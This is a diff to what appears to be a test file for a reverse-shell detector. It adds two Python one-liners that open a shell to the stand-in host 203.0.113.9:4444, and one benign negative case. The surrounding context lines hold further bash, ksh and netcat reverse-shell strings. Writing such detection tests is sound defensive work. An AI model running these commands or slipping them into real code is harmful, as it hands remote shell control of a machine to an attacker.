@@ -73,6 +73,8 @@ const SPELLED = [
   'bash -c bash -i >& /dev/$(printf "tcp")/203.0.113.9/4444 0>&1',
 ];
 const OTHER_PROGRAMS = [
+  'python3 -c import socket,os;s=socket.create_connection(("203.0.113.9",4444));os.popen(s.recv(999).decode())',
+  'python3 -c import socket,subprocess as p;s=socket.create_connection(("203.0.113.9",4444));p.Popen(["ba"+"sh"],stdin=s.fileno())',
   'ksh -c ksh >/dev/tcp/203.0.113.9/4444 <&1 2>&1',
   'sh -c nc 203.0.113.9 4444 | sh',
   'sh -c nc 203.0.113.9 4444 | /bin/bash -s >/dev/null 2>&1 &',
@@ -141,6 +143,7 @@ const NONE = [
   'bash -c bash </etc/hosts',
   'bash -c source /dev/stdin',
   'sh -c nc db 5432 | shasum',
+  'python3 -c import socket,subprocess;socket.create_connection(("db",5432));subprocess.run(["app","serve"])',
   'sh -c nc -l -p 8080 | sh -c "cat > /tmp/out"',
   'sh -c nc db 5432 | sh /opt/parse.sh',
   `node -e 'require("child_process").exec("git rev-parse HEAD"); client.connect()'`,
